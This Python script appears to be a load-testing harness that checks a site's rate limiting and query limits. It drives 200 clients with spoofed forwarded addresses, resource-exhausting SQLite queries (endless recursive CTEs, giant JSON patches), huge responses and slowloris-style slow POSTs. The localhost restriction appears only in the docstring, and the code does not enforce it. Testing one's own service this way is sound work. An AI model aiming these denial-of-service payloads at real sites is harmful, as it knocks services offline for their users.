"""Two hundred clients that ask the public site for what costs it most, as fast as it answers them.

usage: hostile_clients.py PLACE KIND SECONDS     prints how often each status came, in JSON; 127.0.0.0/8 only

They behave: whoever is told to wait (429) waits as long as told, so that no limit on the rate keeps them out. Most
have one connection, some ten, two a hundred. To the site they are 200 addresses of 198.18.0.0/24 (--trust 127.0.0.1).
"""

import asyncio
import json
import sys
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from itertools import count
from urllib.parse import quote, urlencode

CLIENTS = 200
MANY = {0: 100, 1: 100} | dict.fromkeys(range(2, 12), 10)  # connections of a client, else one
LONG_BODY = 900_000  # bytes that a slow sender announces
NUMBERS = count()
Request = tuple[str, bytes]  # method and path, body

PATCH = (
    "with recursive k(i) as (select 1 union all select i+1 from k where i<16500), "
    "v as materialized (select '{'||group_concat('\"a\":1')||'}' as x from k), "
    "w as materialized (select '{'||group_concat('\"b\":null')||'}' as y from (select i from k limit 10500)) "
    "select sum(length(json_patch(x,y))) + NUMBER from v, w, reports"
)
LONG = "select hex(zeroblob(49000)) as a, hex(zeroblob(20000)) || '1' as b"
SEARCH = f"select sum(instr(a, b)) + NUMBER from ({LONG}), reports"
LARGE = "select replace(hex(zeroblob(13700)), '0', char(34)) as a, NUMBER as b from reports"
ENDLESS = "with recursive n(i) as (select NUMBER union all select i + 1 from n) select count(*) from n"
SORTED = "select a.note, NUMBER from reports a, reports b, reports c order by random() limit 5"


def ask_sql(*queries: str) -> Callable[[], Request]:
    """Return what makes a request for the next of some queries."""

    def make() -> Request:
        number = next(NUMBERS)
        sql = queries[number % len(queries)].replace("NUMBER", str(number))
        return "GET /clearview.json?" + urlencode({"sql": sql, "_shape": "array"}), b""

    return make


def ask_large_page() -> Request:
    """Return a request for a page of tens of megabytes."""
    return "GET /clearview?" + urlencode({"sql": LARGE.replace("NUMBER", str(next(NUMBERS)))}), b""


WANTED = {"query": "polNUMBER", "properties": [{"pid": "name", "v": "a"}] * 9}
BATCH = "queries=" + quote(json.dumps({f"q{number}": WANTED for number in range(300)}))


def match_names() -> Request:
    """Return a batch of names near the documented limits."""
    return "POST /reconcile", BATCH.replace("NUMBER", str(next(NUMBERS))).encode()


def search_long() -> Request:
    """Return a search, or a table with many facets, that no cache has."""
    number = next(NUMBERS)
    if number % 2:
        return f"GET /search?q={number}+" + "+".join(f"police{number}{part}" for part in range(14)), b""
    facets = "&".join(f"_facet={name}" for name in ("response", "source", "agency"))
    return f"GET /clearview/reports?_size=1000&{facets}&row__gt=-{number}", b""


KINDS: dict[str, Callable[[], Request]] = {
    "costly functions": ask_sql(PATCH, SEARCH),
    "endless queries": ask_sql(ENDLESS, SORTED),
    "large answers": ask_large_page,
    "long batches of names": match_names,
    "searches and tables": search_long,
    "slow POSTs": lambda: ("POST /reconcile", b""),
}


async def send(place: str, client: int, request: Request, slow: bool) -> tuple[int, float]:
    """Return the status of an answer (0: none) and the seconds that it asks to wait."""
    host, _, port = place.partition(":")
    first, body = request
    length = LONG_BODY if slow else len(body)
    head = f"{first} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Forwarded-For: 198.18.0.{client}\r\n"
    head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n"
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(head.encode() + body)
        while slow and not reader.at_eof():
            with suppress(TimeoutError):
                return int((await asyncio.wait_for(reader.readline(), 5)).split()[1]), 5
            writer.write(b"q")
        status = int((await reader.readline()).split()[1])
        wait = 0.0
        while line := (await reader.readline()).strip():
            if line.lower().startswith(b"retry-after:"):
                wait = float(line.split(b":")[1])
        while await reader.read(65536):
            pass
        return status, wait
    finally:
        writer.close()


async def attack(place: str, kind: str, seconds: float) -> Counter[int]:
    """Return how often each status came to all clients together."""
    statuses: Counter[int] = Counter()
    until = time.monotonic() + seconds

    async def go_on(client: int) -> None:
        while time.monotonic() < until:
            wait = 1.0
            with suppress(OSError, IndexError, asyncio.IncompleteReadError):
                status, wait = await send(place, client, KINDS[kind](), kind == "slow POSTs")
                statuses[status] += 1
            await asyncio.sleep(wait)

    connections = [client for client in range(CLIENTS) for _ in range(MANY.get(client, 1))]
    running = [asyncio.create_task(go_on(client)) for client in connections]
    await asyncio.wait(running, timeout=seconds)
    for task in running:
        task.cancel()
    await asyncio.gather(*running, return_exceptions=True)
    return statuses


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))))
